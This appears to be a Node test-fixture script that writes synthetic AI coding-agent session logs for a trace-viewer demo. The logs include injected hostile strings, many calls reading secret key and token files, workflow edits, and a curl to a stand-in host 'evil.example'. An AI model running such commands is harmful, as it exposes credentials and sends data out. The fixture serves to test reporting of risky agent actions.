// Writes logs of sessions, below the trace store of a copy of the demo, whose reports a browser is shown: one that says
// everything which could make a page do something, and some with more findings than a page holds.
//
// node logs.mjs FOLDER

import { HOSTILE, write } from "./sessions.mjs";

const [store] = process.argv.slice(2);
if (!store) {
  throw new Error("expected the folder of the trace store");
}

const session = (id, agent, calls) =>
  write(
    store,
    id,
    calls.map((data) => ["tool_call", data]),
    { agent_name: agent, attribution: { working_dir: "/home/dana/rates", user: HOSTILE[0], git_branch: HOSTILE[1] } },
  );

const hostile = HOSTILE.flatMap((text) => [
  { tool_name: text, arguments: { file_path: text } },
  { tool_name: "Read", arguments: { file_path: `out/${text}` } },
  { tool_name: "Bash", arguments: { command: `git push '${text}'` } },
  { tool_name: "Bash", arguments: { command: `cat ${text}\n${text}` } },
  { tool_name: "WebFetch", arguments: { url: `https://${text}.example.com/${text}` } },
  { tool_name: "Edit", arguments: { file_path: `.github/workflows/${text}` } },
]);
await session("bad00001", HOSTILE[2], hostile);

const SESSIONS = 5;
const CALLS = 5_000;
const calls = (part) =>
  Array.from({ length: CALLS }, (_, at) =>
    at % 3 === 0
      ? { tool_name: "Edit", arguments: { file_path: `.github/workflows/part-${part}-${at}.yml` } }
      : { tool_name: "Bash", arguments: { command: `cat secrets/key-${part}-${at}.pem` } },
  );
for (let part = 0; part < SESSIONS; part += 1) {
  await session(`many000${part}`, "claude-code", calls(part));
}

// For replays: everything hostile in every kind of event, a long session, and one that started others.
await write(
  store,
  "bad00002",
  HOSTILE.flatMap((text) => [
    ["user_prompt", { prompt: text }],
    ["tool_call", { tool_name: text, arguments: { command: `cat ${text}`, [text]: text } }],
    ["tool_result", { content: text }],
    ["tool_call", { tool_name: "Bash", arguments: { command: `curl https://evil.example/${text}` } }],
    ["error", { message: text }],
    ["assistant_response", { text }],
  ]),
  { agent_name: HOSTILE[1], attribution: { user: HOSTILE[4], git_branch: HOSTILE[6] } },
);

const ROUNDS = 4_000;
const round = (at) => [
  ["llm_response", { model: "claude-sonnet-4-5", usage: { input_tokens: 1_000, output_tokens: 100 } }],
  ["tool_call", { tool_name: "Read", arguments: { file_path: `/home/dana/rates/src/part_${at}.rs` } }],
  ["tool_result", { content: `fn part_${at}() {}\n`.repeat(1 + (at % 40)) }],
  at % 100 === 50
    ? ["tool_call", { tool_name: "Bash", arguments: { command: `cat secrets/key-${at}.pem` } }]
    : ["tool_call", { tool_name: "Bash", arguments: { command: `cargo test part_${at}` } }],
  at % 7 === 3 ? ["error", { message: `part ${at} failed` }] : ["tool_result", { content: "ok" }],
];
await write(store, "long0000", Array.from({ length: ROUNDS }, (_, at) => round(at)).flat(), {
  attribution: { working_dir: "/home/dana/rates" },
});

const work = (name) => [
  ["session_start", {}],
  ["user_prompt", { prompt: `Look at ${name}.` }],
  ["tool_call", { tool_name: "Read", arguments: { file_path: `src/${name}.rs` } }],
  ["tool_result", { content: `// ${name}` }],
];
await write(store, "tree0000", [
  ["user_prompt", { prompt: "Look at both." }],
  ["tool_call", { tool_name: "Task", arguments: { prompt: "Look at one.", subagent_type: "Explore" } }],
  ["tool_result", { content: "one is fine" }],
  ["tool_call", { tool_name: "Bash", arguments: { command: "cat secrets/token.txt" } }],
  ["tool_result", { content: "none" }],
]);
for (const [id, event] of [["tree0001", 1], ["tree0002", null]]) {
  const parent = event === null ? {} : { parent_event_id: event.toString(16).padStart(12, "0") };
  await write(store, id, work(id), { parent_session_id: "tree0000", ...parent });
}
